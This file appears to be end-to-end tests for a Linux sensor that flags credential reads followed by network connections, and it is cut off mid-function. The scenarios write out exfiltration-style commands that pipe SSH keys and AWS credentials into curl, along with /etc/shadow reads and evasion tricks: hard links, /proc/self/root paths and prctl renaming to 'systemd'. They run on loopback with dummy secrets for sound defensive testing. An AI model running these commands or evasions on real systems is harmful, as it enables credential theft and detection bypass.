#!/usr/bin/env python3
"""End-to-end tests of process families and evasions (issue 4): real kernel, real
processes (bash, cat, curl, python), loopback only.

  family_test.py BARBWIRE SOURCE_ROOT CASE

Each CASE is one function below; meson registers each as its own test in
suite 'e2e'. They need root and a build with the sensor; otherwise they exit
77 (skip), or 1 when CI=true. See README.md in this directory.

Unless a case says otherwise the sensor runs with its built-in rules (no
--config), which correlate whole process families. Every scenario runs in a
session of its own (`timeout` as the session leader), and alerts are filtered
to that session (or to pids the test knows), so other activity on the host
cannot confuse a test.
"""
import json
import os
import shutil
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as h  # noqa: E402
from harness import check  # noqa: E402

BW = ""
ROOT = ""

SHADOW = "/etc/shadow"
# category names of the built-in rules (docs/rules.md); the seed's file calls
# /etc/shadow "credential access", the cases that load it say so themselves
CRED = "password hashes"
CLOUD = "cloud credentials"
SSH = "ssh private keys"
GIT_CREDS = "git credentials"
SEED_CRED = "credential access"

# Dummy secrets: not real keys or credentials.
DUMMY_KEY = """-----BEGIN OPENSSH PRIVATE KEY-----
b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW
QyNTUxOQAAACBiYXJid2lyZS1lMmUtdGVzdC1rZXktbm90LWEtcmVhbC1vbmUAAAAA
-----END OPENSSH PRIVATE KEY-----
"""
DUMMY_AWS = """[default]
aws_access_key_id = AKIABARBWIREE2ETEST0
aws_secret_access_key = barbwire/e2e/dummy/secret/not+a+real+one0000
"""

# Which rules the cases that load the seed's file run with: "case" (each case's own),
# or "builtin", set by baseline_test.py, which runs the attack cases together under
# the built-in rules and a learned baseline (parent_named_systemd and
# parent_prctl_systemd then run under the built-in rules, whose legit_parents name
# systemd too).
RULES = "case"

FAMILY_SECTION = ("\nfamily:\n  self: 0\n  ancestor: 0\n  descendant: 0\n"
                  "  sibling: 0\n  session: -1\n")


def which_real(name):
    p = shutil.which(name, path="/usr/bin:/bin")
    if p is None:
        h.skip_or_fail(f"{name} is not installed (these tests run the real {name}; apt-get install {name})")
    return os.path.realpath(p)


def make_home(ws):
    """<ws>/home with ~/.ssh/id_rsa (DUMMY_KEY) and ~/.aws/credentials (DUMMY_AWS).
    Returns the realpath of the home."""
    home = ws.path("home")
    os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
    os.makedirs(os.path.join(home, ".aws"), mode=0o700)
    h.write_file(os.path.join(home, ".ssh", "id_rsa"), DUMMY_KEY, mode=0o600)
    h.write_file(os.path.join(home, ".aws", "credentials"), DUMMY_AWS, mode=0o600)
    return os.path.realpath(home)


def shell_env(home):
    return {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": home}


def ctx(a):
    return f"alert: {json.dumps(a, sort_keys=True)}"


def show(label, a):
    """Print the essentials of an alert, so a run's log says what the sensor chose."""
    r, p, f = a.get("reader") or {}, a.get("process") or {}, a.get("file") or {}
    print(f"{label}: relation={a.get('relation')!r} score={a.get('score')} "
          f"breakdown={a.get('score_breakdown')} sender={p.get('comm')}[{p.get('pid')}] "
          f"reader={r.get('comm')}[{r.get('pid')}] file={f.get('path')!r} ({f.get('category')!r}, "
          f"same_inode_as={f.get('same_inode_as')!r})")


def one_alert(alerts, what, sensor):
    check(len(alerts) == 1, f"expected exactly one alert for {what}, got {len(alerts)}:\n"
                            + "\n".join(json.dumps(a, sort_keys=True) for a in alerts)
                            + f"\nsensor stderr:\n{sensor.stderr()}")
    return alerts[0]


def check_common(a, *, path, category, port, reader_pid=None, relation=None):
    """What every alert here must say: the file, its category, the loopback destination,
    a consistent score, and (when given) the relation and the reader."""
    f = a.get("file") or {}
    check(f.get("path") == path, f"file.path {f.get('path')!r} != {path!r}; {ctx(a)}")
    check(f.get("category") == category, f"file.category {f.get('category')!r} != {category!r}; {ctx(a)}")
    st = os.stat(path)
    check(f.get("ino") == st.st_ino and f.get("dev") == st.st_dev,
          f"file dev/ino {f.get('dev')}/{f.get('ino')} != stat {st.st_dev}/{st.st_ino}; {ctx(a)}")
    d = a.get("destination") or {}
    want = {"op": "connect", "protocol": "tcp", "addr": "127.0.0.1", "port": port, "family": "ipv4"}
    got = {k: d.get(k) for k in want}
    check(got == want, f"destination {got} != {want}; {ctx(a)}")
    bd = a.get("score_breakdown") or []
    check(bd and bd[0].get("reason") == category,
          f"score_breakdown should start with the category {category!r}: {bd}; {ctx(a)}")
    check(a.get("score") == sum(x.get("points", 0) for x in bd),
          f"score {a.get('score')} != sum of score_breakdown {bd}; {ctx(a)}")
    dn = a.get("delta_ns")
    check(isinstance(dn, int) and 0 <= dn <= 5_000_000_000, f"delta_ns {dn} not within 0..5 s; {ctx(a)}")
    rel = a.get("relation")
    check(rel in h.FAMILY_RELATIONS, f"relation {rel!r} is not one of {h.FAMILY_RELATIONS}; {ctx(a)}")
    if relation is not None:
        check(rel == relation, f"relation {rel!r} != {relation!r}; {ctx(a)}")
    r = a.get("reader") or {}
    if reader_pid is not None:
        check(r.get("pid") == reader_pid, f"reader.pid {r.get('pid')} != {reader_pid}; {ctx(a)}")
    anc = a.get("ancestry")
    check(isinstance(anc, list) and anc and anc[0].get("pid") == a["process"]["pid"],
          f"ancestry[0] should be the sender; {ctx(a)}")


def check_proc(obj, what, a, *, pid=None, comm=None, exe=None):
    obj = obj or {}
    if pid is not None:
        check(obj.get("pid") == pid, f"{what}.pid {obj.get('pid')} != {pid}; {ctx(a)}")
    if comm is not None:
        check(obj.get("comm") == comm, f"{what}.comm {obj.get('comm')!r} != {comm!r}; {ctx(a)}")
    if exe is not None:
        check(obj.get("exe") == exe, f"{what}.exe {obj.get('exe')!r} != {exe!r}; {ctx(a)}")


def trace_events(ws, pid=None):
    ev = h.read_trace(ws.trace)
    return ev if pid is None else [e for e in ev if e.get("pid") == pid]


def settle(sensor, leader, timeout=h.ALERT_TIMEOUT):
    """Wait for the session's first alert, then a little longer for any others,
    so a test that wants exactly one would see a second one."""
    sensor.wait_for(lambda a: h.in_session(a, leader), timeout)
    time.sleep(1.0)


# --------------------------------------------------------------------------- 1, 2: shells

def attack_pipeline_sibling():
    """1. bash -c 'cat $HOME/.ssh/id_rsa | curl --data-binary @- http://127.0.0.1:PORT/':
    exactly one alert, for curl, relation sibling, reader cat (pid from the recorded exec),
    and the listener got the key bytes."""
    curl, cat, bash = which_real("curl"), which_real("cat"), which_real("bash")
    homes = {}

    def prepare(ws):
        homes["home"] = make_home(ws)
        return None                                          # built-in rules

    def body(ws, sensor, lst):
        home = homes["home"]
        key = os.path.join(home, ".ssh", "id_rsa")
        sh = h.Shell(f'cat $HOME/.ssh/id_rsa | curl -sS -o /dev/null --max-time 10 '
                     f'--data-binary @- http://127.0.0.1:{lst.port}/', env=shell_env(home))
        sh.wait()
        check(lst.received(DUMMY_KEY.encode()), f"the listener did not receive the key bytes: {lst.bodies()}")
        settle(sensor, sh.leader)
        yield
        a = one_alert(sensor.alerts_in_session(sh.leader), f"session {sh.leader}", sensor)
        show("pipeline", a)
        check_proc(a.get("process"), "process", a, comm="curl", exe=curl)
        check_proc(a.get("reader"), "reader", a, comm="cat", exe=cat)
        check_proc(a.get("parent"), "parent", a, comm="bash", exe=bash)
        check_common(a, path=key, category=SSH, port=lst.port, relation="sibling")
        # who cat and curl were, from the recorded exec events
        bash_pid = a["parent"]["pid"]
        ev = trace_events(ws)
        execs = [e for e in ev if e.get("kind") == "exec" and e.get("ppid") == bash_pid
                 and e.get("sid") == sh.leader]
        cats = [e["pid"] for e in execs if e.get("comm") == "cat"]
        curls = [e["pid"] for e in execs if e.get("comm") == "curl"]
        check(len(cats) == 1 and len(curls) == 1, f"trace: expected one cat and one curl exec under bash "
                                                  f"{bash_pid}, got {execs}")
        check_proc(a.get("reader"), "reader", a, pid=cats[0])
        check_proc(a.get("process"), "process", a, pid=curls[0])
        check(any(e.get("kind") == "open" and e.get("path") == key for e in trace_events(ws, cats[0])),
              f"trace: no open of {key} by cat {cats[0]}")
    return h.Attack("pipeline_sibling", body, prepare, listener="http", record=True)


def attack_command_substitution():
    """2. bash -c 'k=$(cat $HOME/.aws/credentials); curl -d "$k" http://127.0.0.1:PORT/':
    exactly one alert, sender curl, reader cat, relation a family one (not self)."""
    curl, cat = which_real("curl"), which_real("cat")
    homes = {}

    def prepare(ws):
        homes["home"] = make_home(ws)
        return None

    def body(ws, sensor, lst):
        home = homes["home"]
        creds = os.path.join(home, ".aws", "credentials")
        sh = h.Shell(f'k=$(cat $HOME/.aws/credentials); curl -sS -o /dev/null --max-time 10 '
                     f'-d "$k" http://127.0.0.1:{lst.port}/', env=shell_env(home))
        sh.wait()
        check(lst.received(DUMMY_AWS.strip().encode()),
              f"the listener did not receive the credentials: {lst.bodies()}")
        settle(sensor, sh.leader)
        yield
        a = one_alert(sensor.alerts_in_session(sh.leader), f"session {sh.leader}", sensor)
        show("command substitution", a)
        print(f"relation chosen for $(cat ...); curl: {a.get('relation')!r}")
        check_proc(a.get("process"), "process", a, comm="curl", exe=curl)
        check_proc(a.get("reader"), "reader", a, comm="cat", exe=cat)
        check_common(a, path=creds, category=CLOUD, port=lst.port)
        check(a.get("relation") != "self", f"relation is self: curl itself read the file?; {ctx(a)}")
        ev = trace_events(ws)
        cat_pids = {e["pid"] for e in ev if e.get("kind") == "exec" and e.get("comm") == "cat"
                    and e.get("sid") == sh.leader}
        check(a["reader"]["pid"] in cat_pids, f"reader.pid {a['reader']['pid']} is not the cat exec'd in "
                                              f"session {sh.leader} ({sorted(cat_pids)}); {ctx(a)}")
        check(a["reader"]["pid"] != a["process"]["pid"], f"reader and sender are one process; {ctx(a)}")
    return h.Attack("command_substitution", body, prepare, listener="http", record=True)


# --------------------------------------------------------------------------- 3: ancestor

FORK_CHILD_CONNECTS = (
    "{read}"
    "pid = os.fork()\n"
    "if pid == 0:\n"
    "    try:\n"
    "{connect}"
    "        print('child', os.getpid(), flush=True)\n"
    "    finally:\n"
    "        os._exit(0)\n"
    "_, st = os.waitpid(pid, 0)\n"
    "assert st == 0, st\n"
)


def indent(code, n):
    return "".join(" " * n + l + "\n" for l in code.splitlines())


def attack_parent_reads_child_connects():
    """3a. python reads /etc/shadow, forks, the child connects: one alert for the child,
    relation ancestor, reader the parent."""
    def body(ws, sensor, lst):
        code = FORK_CHILD_CONNECTS.format(read=h.read_snippet(SHADOW),
                                          connect=indent(h.tcp_connect_snippet("127.0.0.1", lst.port), 8))
        actor = h.Actor(code, new_session=True)
        rep = actor.run()
        child = int(rep["child"])
        check(lst.accepted_from(int(rep["local_port"])), "the listener never saw the child's connection")
        settle(sensor, actor.timeout_pid)
        yield
        mine = [a for a in sensor.alerts(actor.pid) if h.in_session(a, actor.timeout_pid)]
        check(mine == [], f"the parent made no network call: {mine}")
        a = one_alert(sensor.alerts_in_session(actor.timeout_pid), f"session {actor.timeout_pid}", sensor)
        show("ancestor", a)
        check_proc(a.get("process"), "process", a, pid=child, exe=h.PY_REAL)
        check_proc(a.get("parent"), "parent", a, pid=actor.pid, exe=h.PY_REAL)
        check_proc(a.get("reader"), "reader", a, pid=actor.pid, exe=h.PY_REAL)
        check_common(a, path=SHADOW, category=CRED, port=lst.port, reader_pid=actor.pid, relation="ancestor")
    return h.Attack("parent_reads_child_connects", body, listener="tcp")


def attack_reader_exits_before_connect():
    """3b. As 3a, but the parent (the reader) exits first; the child connects only once it
    has been reparented (its getppid() changed): still one alert, relation ancestor."""
    def body(ws, sensor, lst):
        code = (h.read_snippet(SHADOW)
                + "parent = os.getpid()\n"
                  "pid = os.fork()\n"
                  "if pid == 0:\n"
                  "    try:\n"
                  "        t0 = time.monotonic()\n"
                  "        while os.getppid() == parent:\n"
                  "            assert time.monotonic() - t0 < 3, 'parent still alive'\n"
                  "            time.sleep(0.002)\n"
                  "        print('new_ppid', os.getppid(), flush=True)\n"
                + indent(h.tcp_connect_snippet("127.0.0.1", lst.port), 8)
                + "        print('child', os.getpid(), flush=True)\n"
                  "    finally:\n"
                  "        os._exit(0)\n"
                  "print('child_pid', pid, flush=True)\n"
                  "os._exit(0)\n")
        actor = h.Actor(code, new_session=True)
        rep = actor.run()                 # EOF only once the orphaned child closed stdout too
        check("child" in rep and "local_port" in rep, f"the child did not connect: {rep}")
        child = int(rep["child"])
        check(int(rep["new_ppid"]) != actor.pid, f"child was not reparented: {rep}")
        check(lst.accepted_from(int(rep["local_port"])), "the listener never saw the child's connection")
        settle(sensor, actor.timeout_pid)
        yield
        a = one_alert(sensor.alerts(child), f"child pid {child}", sensor)
        show("exited ancestor", a)
        check(h.in_session(a, actor.timeout_pid), f"ancestry does not reach session leader "
                                                  f"{actor.timeout_pid}; {ctx(a)}")
        check(len(sensor.alerts_in_session(actor.timeout_pid)) == 1,
              f"more than one alert in the session: {sensor.alerts_in_session(actor.timeout_pid)}")
        check_proc(a.get("process"), "process", a, pid=child, exe=h.PY_REAL)
        check_proc(a.get("reader"), "reader", a, pid=actor.pid, exe=h.PY_REAL)
        check_common(a, path=SHADOW, category=CRED, port=lst.port, reader_pid=actor.pid, relation="ancestor")
    return h.Attack("reader_exits_before_connect", body, listener="tcp")


# --------------------------------------------------------------------------- 4: thread

def attack_thread_connects():
    """4. The main thread reads /etc/shadow, another thread of the process connects:
    one alert, relation self, process.pid the process, process.tid the thread."""
    def body(ws, sensor, lst):
        code = ("import threading\n"
                + h.read_snippet(SHADOW)
                + "def net():\n"
                  "    print('tid', threading.get_native_id(), flush=True)\n"
                + indent(h.tcp_connect_snippet("127.0.0.1", lst.port), 4)
                + "t = threading.Thread(target=net)\n"
                  "t.start()\n"
                  "t.join()\n")
        actor = h.Actor(code, new_session=True)
        rep = actor.run()
        tid = int(rep["tid"])
        check(tid != actor.pid, f"the connecting thread's id {tid} equals the pid")
        check(lst.accepted_from(int(rep["local_port"])), "the listener never saw the thread's connection")
        settle(sensor, actor.timeout_pid)
        yield
        by_tid = [a for a in sensor.alerts(tid) if h.in_session(a, actor.timeout_pid)]
        check(by_tid == [], f"an alert names the thread id as process.pid: {by_tid}")
        a = one_alert(sensor.alerts_in_session(actor.timeout_pid), f"session {actor.timeout_pid}", sensor)
        show("thread", a)
        check_proc(a.get("process"), "process", a, pid=actor.pid, exe=h.PY_REAL)
        check(a["process"].get("tid") == tid, f"process.tid {a['process'].get('tid')} != thread {tid}; {ctx(a)}")
        check_proc(a.get("reader"), "reader", a, pid=actor.pid)
        check_common(a, path=SHADOW, category=CRED, port=lst.port, reader_pid=actor.pid, relation="self")
    return h.Attack("thread_connects", body, listener="tcp")


# --------------------------------------------------------------------------- 5: evasions

def read_then_connect(sensor, lst, path, home=None):
    """A python actor in its own session opens `path` and connects; returns the actor,
    once its alert had time to arrive."""
    actor = h.Actor(h.read_snippet(path) + h.tcp_connect_snippet("127.0.0.1", lst.port),
                    home=home, new_session=True)
    rep = actor.run()
    check(lst.accepted_from(int(rep["local_port"])), "the listener never saw the actor's connection")
    settle(sensor, actor.timeout_pid)
    return actor


def alert_of_reader(sensor, actor):
    """After the sensor stopped: the one alert of read_then_connect's actor's session,
    sent and read by the actor."""
    a = one_alert(sensor.alerts_in_session(actor.timeout_pid), f"session {actor.timeout_pid}", sensor)
    check_proc(a.get("process"), "process", a, pid=actor.pid, exe=h.PY_REAL)
    check_proc(a.get("reader"), "reader", a, pid=actor.pid)
    check_proc(a.get("parent"), "parent", a, pid=actor.bash_pid, comm="bash")
    return a


def attack_path_dotdot_slashes():
    """5a. open('/etc/../etc//shadow'): the alert names /etc/shadow."""
    def body(ws, sensor, lst):
        actor = read_then_connect(sensor, lst, "/etc/../etc//shadow")
        yield
        a = alert_of_reader(sensor, actor)
        show("dotdot", a)
        check_common(a, path=SHADOW, category=CRED, port=lst.port, relation="self")
    return h.Attack("path_dotdot_slashes", body, listener="tcp")


def attack_proc_self_root():
    """5b. open('/proc/self/root/etc/shadow'): the alert names /etc/shadow."""
    def body(ws, sensor, lst):
        actor = read_then_connect(sensor, lst, "/proc/self/root/etc/shadow")
        yield
        a = alert_of_reader(sensor, actor)
        show("proc self root", a)
        check_common(a, path=SHADOW, category=CRED, port=lst.port, relation="self")
    return h.Attack("proc_self_root", body, listener="tcp")


def make_hard_link(target, dirs, name):
    """os.link(target, d/name) in the first of `dirs` where it works (same filesystem,
    allowed). Returns the link's path."""
    errors = []
    for d in dirs:
        p = os.path.join(d, name)
        try:
            os.link(target, p)
            return p
        except OSError as e:
            errors.append(f"{p}: {e}")
    raise h.Failure(f"could not hard-link {target} anywhere: {errors}")


def attack_hardlink_shadow():
    """5c. A hard link to /etc/shadow under an innocent name (in the workspace, else /var/tmp,
    /root, /etc): the alert's file is credential access and file.same_inode_as is /etc/shadow."""
    links = {}

    def prepare(ws):
        name = f"barbwire-e2e-notes-{os.getpid()}.txt"
        link = make_hard_link(SHADOW, [ws.dir, "/var/tmp", "/root", "/etc"], name)
        if os.path.dirname(link) != ws.dir:
            ws.defer(lambda: os.path.lexists(link) and os.unlink(link))
        links["link"] = link
        return None

    def body(ws, sensor, lst):
        link = links["link"]
        check(os.stat(link).st_ino == os.stat(SHADOW).st_ino, "the hard link is not /etc/shadow's inode")
        print(f"hard link: {link}")
        actor = read_then_connect(sensor, lst, link)
        yield
        a = alert_of_reader(sensor, actor)
        show("hardlink shadow", a)
        f = a.get("file") or {}
        st = os.stat(SHADOW)
        check(f.get("category") == CRED, f"file.category {f.get('category')!r} != {CRED!r}; {ctx(a)}")
        check(f.get("same_inode_as") == SHADOW, f"file.same_inode_as {f.get('same_inode_as')!r} != {SHADOW!r}; "
                                                f"{ctx(a)}")
        check(f.get("ino") == st.st_ino and f.get("dev") == st.st_dev,
              f"file dev/ino {f.get('dev')}/{f.get('ino')} != /etc/shadow's {st.st_dev}/{st.st_ino}; {ctx(a)}")
        check(a.get("relation") == "self", f"relation {a.get('relation')!r} != 'self'; {ctx(a)}")
    return h.Attack("hardlink_shadow", body, prepare, listener="tcp")


def attack_hardlink_ssh_key():
    """5d. A config of the built-in rules plus the key's absolute path as a pattern (so the
    rules name the file), and a hard link to the key in another directory: the alert's
    file is an ssh key and file.same_inode_as is the key's path."""
    paths = {}

    def prepare(ws):
        home = make_home(ws)
        key = os.path.join(home, ".ssh", "id_rsa")
        rules = h.builtin_rules_json(ROOT)
        check("family" in rules, "the built-in rules have no family section")
        cats = [c for c in rules["suspicious_files"] if c["category"] == SSH]
        check(len(cats) == 1, f"the built-in rules have no {SSH!r} category: {rules['suspicious_files']}")
        cats[0]["patterns"].append(key)
        os.makedirs(ws.path("stash"))
        link = ws.path("stash", "notes.txt")
        os.link(key, link)
        paths.update(home=home, key=key, link=link)
        return json.dumps(rules, indent=1) + "\n"       # JSON is YAML

    def body(ws, sensor, lst):
        key, link = paths["key"], paths["link"]
        print(f"hard link: {link} -> inode of {key}")
        actor = read_then_connect(sensor, lst, link, home=paths["home"])
        yield
        a = alert_of_reader(sensor, actor)
        show("hardlink ssh key", a)
        f = a.get("file") or {}
        st = os.stat(key)
        check(f.get("category") == SSH, f"file.category {f.get('category')!r} != {SSH!r}; {ctx(a)}")
        check(f.get("same_inode_as") == key, f"file.same_inode_as {f.get('same_inode_as')!r} != {key!r}; {ctx(a)}")
        check(f.get("ino") == st.st_ino and f.get("dev") == st.st_dev,
              f"file dev/ino {f.get('dev')}/{f.get('ino')} != the key's {st.st_dev}/{st.st_ino}; {ctx(a)}")
        check(a.get("relation") == "self", f"relation {a.get('relation')!r} != 'self'; {ctx(a)}")
    return h.Attack("hardlink_ssh_key", body, prepare, listener="tcp")


PRCTL_SYSTEMD = ("import ctypes\n"
                 "libc = ctypes.CDLL(None, use_errno=True)\n"
                 "assert libc.prctl(15, b'systemd', 0, 0, 0) == 0\n"     # PR_SET_NAME
                 "name = ctypes.create_string_buffer(16)\n"
                 "assert libc.prctl(16, name, 0, 0, 0) == 0\n"            # PR_GET_NAME
                 "print('comm', name.value.decode(), flush=True)\n")

RUN_CHILD = ("pid = os.fork()\n"
             "if pid == 0:\n"
             "    os.execv({py!r}, [{py!r}, '-I', '-S', '-c', {code!r}])\n"
             "print('child_pid', pid, flush=True)\n"
             "_, st = os.waitpid(pid, 0)\n"
             "assert st == 0, st\n")


def parent_runs_reader(sensor, lst, parent_python, prelude=""):
    """An actor run as `parent_python` (after `prelude`) runs a python child that reads
    /etc/shadow and connects. Returns (actor, report, the child's one alert)."""
    child_code = h.read_snippet(SHADOW) + h.tcp_connect_snippet("127.0.0.1", lst.port)
    actor = h.Actor(prelude + RUN_CHILD.format(py=h.PY, code="import os, socket\n" + child_code),
                    python=parent_python, new_session=True)
    rep = actor.run()
    child = int(rep["child_pid"])
    check(lst.accepted_from(int(rep["local_port"])), "the listener never saw the child's connection")
    got = sensor.wait_alert(child)
    check(got, f"no alert for the child {child} of {parent_python}; stderr:\n{sensor.stderr()}")
    return actor, rep, child


def child_alerts(sensor, actor, child):
    """The alerts of parent_runs_reader's child, in the actor's session."""
    return [a for a in sensor.alerts(child) if h.in_session(a, actor.timeout_pid)]


def check_trusted_name_child(sensor, actor, child, lst, baseline, what):
    a = one_alert(child_alerts(sensor, actor, child), f"child pid {child} ({what})", sensor)
    show(what, a)
    check_proc(a.get("process"), "process", a, pid=child, exe=h.PY_REAL)
    check_proc(a.get("parent"), "parent", a, pid=actor.pid)
    check_common(a, path=SHADOW, category=SEED_CRED if RULES == "case" else CRED, port=lst.port,
                 reader_pid=child, relation="self")
    legit = [x for x in a.get("score_breakdown") or [] if x.get("reason", "").startswith("legit")]
    check(legit == [], f"{what}: a name alone lowered the score: {legit}; {ctx(a)}")
    check(a.get("score") == baseline.get("score"),
          f"{what}: score {a.get('score')} != {baseline.get('score')} of the same child under a "
          f"neutrally named python parent; {ctx(a)}\nbaseline: {json.dumps(baseline, sort_keys=True)}")
    return a


def trusted_name_prepare(names):
    """Seed config with a family section (the built-in rules when RULES is "builtin");
    copies of python named `names` in the workspace."""
    if RULES == "builtin":
        legit = [r for r in h.builtin_rules_json(ROOT)["legit_parents"] if r.get("program") == "systemd"]
        check(len(legit) == 1 and legit[0]["modifier"] < 0,
              f"the built-in rules no longer lower the score for a parent called systemd: {legit}; update this test")
        rules = None
    else:
        seed = h.read_file(os.path.join(ROOT, "test", "config", "seed-barbwire-config.yml"))
        check("program: \"systemd\"\n    modifier: -2" in seed,
              "the seed config no longer has legit_parents systemd -2; update this test")
        check("\nfamily:" not in seed, "the seed config has a family section now; update this test")
        rules = seed + FAMILY_SECTION
    copies = {}

    def prepare(ws):
        for n in names:
            os.makedirs(ws.path(n + "-dir"))
            p = ws.path(n + "-dir", n)
            shutil.copy2(h.PY_REAL, p)
            os.chmod(p, 0o755)
            copies[n] = p
        return rules
    return prepare, copies


def attack_parent_named_systemd():
    """5e. Seed config (legit_parents: systemd -2) with a family section. A copy of python
    at <workspace>/systemd runs a child that reads /etc/shadow and connects: no 'legit parent'
    in the child's score_breakdown, and the same score as under a copy of python with a
    neutral name (pyrunner), which no parent rule names."""
    prepare, copies = trusted_name_prepare(["pyrunner", "systemd"])

    def body(ws, sensor, lst):
        base_actor, _, base_child = parent_runs_reader(sensor, lst, copies["pyrunner"])
        fake_actor, _, fake_child = parent_runs_reader(sensor, lst, copies["systemd"])
        time.sleep(1.0)
        yield
        base = one_alert(child_alerts(sensor, base_actor, base_child), f"baseline child {base_child}", sensor)
        show("baseline (parent pyrunner)", base)
        check_proc(base.get("parent"), "parent", base, pid=base_actor.pid, comm="pyrunner", exe=copies["pyrunner"])
        a = check_trusted_name_child(sensor, fake_actor, fake_child, lst, base, "parent named systemd")
        check_proc(a.get("parent"), "parent", a, comm="systemd", exe=copies["systemd"])
    return h.Attack("parent_named_systemd", body, prepare, listener="tcp")


def attack_parent_prctl_systemd():
    """5f. As 5e, but the parent calls prctl(PR_SET_NAME, "systemd") before it forks and
    execs the child: no 'legit parent', the same score as without the prctl."""
    prepare, copies = trusted_name_prepare(["pyrunner"])

    def body(ws, sensor, lst):
        base_actor, _, base_child = parent_runs_reader(sensor, lst, copies["pyrunner"])
        fake_actor, rep, fake_child = parent_runs_reader(sensor, lst, copies["pyrunner"], prelude=PRCTL_SYSTEMD)
        check(rep.get("comm") == "systemd", f"the parent did not rename itself: {rep}")
        time.sleep(1.0)
        yield
        base = one_alert(child_alerts(sensor, base_actor, base_child), f"baseline child {base_child}", sensor)
        show("baseline (parent pyrunner)", base)
        a = check_trusted_name_child(sensor, fake_actor, fake_child, lst, base, "parent prctl systemd")
        print(f"the renamed parent shows as comm {a['parent'].get('comm')!r}")
        check(a["parent"].get("comm") in ("pyrunner", "systemd"), f"parent.comm; {ctx(a)}")
        check_proc(a.get("parent"), "parent", a, exe=copies["pyrunner"])
    return h.Attack("parent_prctl_systemd", body, prepare, listener="tcp")


# --------------------------------------------------------------------------- 6: no cross-family alert

def case_unrelated_sessions():
    """6. Process A (its own session) reads /etc/shadow; process B (another session, same
    parent: the test) connects while A is alive, well within the window: no alert for B.
    Positive control in the same run: a reader and a sender in one session (siblings under
    one bash) alert once. Recorded, so the trace proves the sensor saw A's open and B's
    connect: the silence is the family boundary's doing."""
    h.require_root_and_sensor()
    with h.scenario(BW, record=True, listener="tcp") as (ws, sensor, lst):
        env = {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": "/nonexistent"}
        reader_code = (h.read_snippet(SHADOW) + "print('read', flush=True)\nsys.stdin.readline()\n")
        rd = subprocess.Popen([h.PY, "-I", "-S", "-c", "import sys\n" + reader_code], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env, cwd="/",
                              start_new_session=True)
        try:
            line = rd.stdout.readline().decode().strip()
            check(line == "read", f"reader A did not report its read: {line!r}")
            t_read = time.monotonic()
            snd = subprocess.Popen([h.PY, "-I", "-S", "-c", "import socket\n"
                                    + h.tcp_connect_snippet("127.0.0.1", lst.port)],
                                   stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                   env=env, cwd="/", start_new_session=True)
            b_pid = snd.pid
            out, err = snd.communicate(timeout=30)
            check(snd.returncode == 0, f"sender B failed: {err!r}")
            check(time.monotonic() - t_read < 3.0, "sender B connected too late for the test to mean anything")
            b_port = int(out.decode().split()[1])
            check(lst.accepted_from(b_port), "the listener never saw B's connection")
        finally:
            if rd.poll() is None:
                rd.stdin.write(b"\n")
                rd.stdin.close()
            rd.wait(10)
        a_pid = rd.pid

        # positive control: reader and sender, one after the other, in one session
        ctl = h.Shell('"$1" -I -S -c "$2"; "$1" -I -S -c "$3"; exit $?', env=env,
                      args=[h.PY,
                            "import os\nprint('reader', os.getpid(), flush=True)\n" + h.read_snippet(SHADOW),
                            "import os, socket\nprint('sender', os.getpid(), flush=True)\n"
                            + h.tcp_connect_snippet("127.0.0.1", lst.port)])
        out, _ = ctl.wait()
        rep = dict(l.split(" ", 1) for l in out.splitlines())
        ctl_reader, ctl_sender = int(rep["reader"]), int(rep["sender"])
        check(lst.accepted_from(int(rep["local_port"])), "the listener never saw the control's connection")
        check(sensor.wait_alert(ctl_sender), f"the positive control did not alert; stderr:\n{sensor.stderr()}")
        time.sleep(2.5)                       # give a wrong alert time to show up
        sensor.stop_cleanly()

        ev = trace_events(ws)
        opens = [e for e in ev if e.get("pid") == a_pid and e.get("kind") == "open" and e.get("path") == SHADOW]
        conns = [e for e in ev if e.get("pid") == b_pid and e.get("kind") == "connect" and e.get("port") == lst.port]
        check(len(opens) == 1, f"trace: expected A's ({a_pid}) open of {SHADOW}: "
                               f"{[e for e in ev if e.get('pid') == a_pid]}")
        check(len(conns) == 1, f"trace: expected B's ({b_pid}) connect to port {lst.port}: "
                               f"{[e for e in ev if e.get('pid') == b_pid]}")
        sids = {e["pid"]: e.get("sid") for e in ev if e.get("kind") == "exec" and e.get("pid") in (a_pid, b_pid)}
        print(f"A {a_pid} sid {sids.get(a_pid)}, B {b_pid} sid {sids.get(b_pid)}")
        gap = conns[0]["ts"] - opens[0]["ts"]
        check(0 <= gap <= 5_000_000_000, f"B's connect came {gap} ns after A's open, not within the 5 s window")
        check(sensor.alerts(b_pid) == [], f"B ({b_pid}, another session) alerted on A's read: {sensor.alerts(b_pid)}")
        check(sensor.alerts(a_pid) == [], f"A ({a_pid}) made no network call but alerted: {sensor.alerts(a_pid)}")
        stray = [a for a in sensor.alerts() if (a.get("reader") or {}).get("pid") == a_pid]
        check(stray == [], f"an alert names A ({a_pid}) as reader: {stray}")

        c = one_alert(sensor.alerts_in_session(ctl.leader), f"control session {ctl.leader}", sensor)
        show("control", c)
        check_proc(c.get("process"), "process", c, pid=ctl_sender)
        check_common(c, path=SHADOW, category=CRED, port=lst.port, reader_pid=ctl_reader, relation="sibling")


# --------------------------------------------------------------------------- 7: trusted binaries (issue 5)

DUMMY_GIT_CREDS = "https://barbwire-e2e:dummy-token-not-real@git.example.invalid\n"


def attack_trusted_binary_copy():
    """7. The built-in rules trust /usr/bin/git (root-owned, 0755) for ~/.git-credentials
    by path alone. Three sessions pipe `git hash-object ~/.git-credentials` into curl:
      A. /usr/bin/git itself: no alert, although the recording shows git's open;
      B. a byte-identical copy of git in the user's home (same sha256, another path): one
         alert, reader the copy;
      C. that copy, owned by nobody, bind-mounted over /usr/bin/git in a private mount
         namespace, so the kernel path IS /usr/bin/git: one alert, because a path alone
         trusts only a root-owned file that group and others cannot write."""
    git, curl = which_real("git"), which_real("curl")
    unshare, mount = which_real("unshare"), which_real("mount")
    check(git == "/usr/bin/git", f"git is {git}, not the /usr/bin/git the built-in rules trust")
    st = os.stat(git)
    check(st.st_uid == 0 and st.st_mode & 0o022 == 0, f"{git} is not root-owned and write-protected: {oct(st.st_mode)}")
    paths = {}

    def prepare(ws):
        home = make_home(ws)
